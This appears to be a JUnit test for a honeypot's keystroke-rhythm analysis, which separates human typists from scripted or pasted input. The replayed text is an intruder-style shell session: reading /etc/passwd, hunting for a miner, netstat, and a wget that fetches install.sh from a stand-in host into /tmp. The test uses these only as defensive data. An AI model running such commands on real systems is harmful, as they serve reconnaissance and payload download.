package org.decnet.engine.keystroke;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.OptionalLong;
import java.util.Random;
import org.decnet.engine.identity.KeystrokeCentroid;
import org.decnet.engine.shell.TolerantShellParser;
import org.decnet.testkit.Tty;
import org.junit.jupiter.api.Test;

/** Whose rhythm a recording shows: a hand's, or a program's that everybody may run. */
class HandRhythmTest {
  private static final String TEXT =
      "cat /etc/passwd | grep root\runame -a && ls -la /var/tmp\rps aux | grep miner | head\r"
          + "wget http://192.0.2.7/install.sh -O /tmp/i\rnetstat -antp | less\r";

  @Test
  void oneHandHasOneRhythmAndTwoHandsHaveTwo() throws IOException {
    long one = typed(1, 1).orElseThrow();
    assertThat(KeystrokeCentroid.distance(one, typed(1, 2).orElseThrow())).isLessThan(12);
    assertThat(KeystrokeCentroid.distance(one, typed(2, 1).orElseThrow())).isGreaterThan(12);
  }

  @Test
  void whatAProgramSendsKeyByKeyAtOnePaceIsNobodysRhythm() throws IOException {
    Tty tty = Tty.begun();
    for (int i = 0; i < TEXT.length(); i++) {
      tty.after(100 + i % 3).input(TEXT.substring(i, i + 1));
    }
    assertThat(rhythm(tty)).isEmpty();
  }

  @Test
  void programsThatRollDiceForTheirPaceAreNotTakenForOneHand() throws IOException {
    for (int seed = 0; seed < 20; seed += 2) {
      OptionalLong one = diced(seed);
      OptionalLong other = diced(seed + 1);
      assertThat(KeystrokeCentroid.near(one.orElseThrow(), other.orElseThrow())).isFalse();
    }
  }

  @Test
  void tooLittleAndWhatIsPastedAreNobodysRhythm() throws IOException {
    Tty little = Tty.begun().typed("cat /etc/passwd | grep root\r", hand(1, 1));
    assertThat(rhythm(little)).isEmpty();
    Tty pasted = Tty.begun().typed(TEXT, hand(1, 1));
    for (int i = 0; i < 10; i++) {
      pasted.after(500).input("cat /proc/cpuinfo; free -m; uname -a; id; w; last");
    }
    assertThat(rhythm(pasted)).isEmpty();
  }

  private static OptionalLong typed(long hand, long day) throws IOException {
    return rhythm(Tty.begun().typed(TEXT, hand(hand, day)));
  }

  private static Tty.Hand hand(long hand, long day) {
    return new Tty.Hand(hand, 150, new Random(day));
  }

  private static OptionalLong diced(long seed) throws IOException {
    Random dice = new Random(seed);
    Tty tty = Tty.begun();
    for (int i = 0; i < TEXT.length(); i++) {
      tty.after(dice.nextInt(60, 240)).input(TEXT.substring(i, i + 1));
    }
    return rhythm(tty);
  }

  private static OptionalLong rhythm(Tty tty) throws IOException {
    return HandRhythm.of(
        new BehaviouralPrimitives(new TolerantShellParser())
            .of(Tty.stream(tty.closed()), "r#s", null));
  }
}
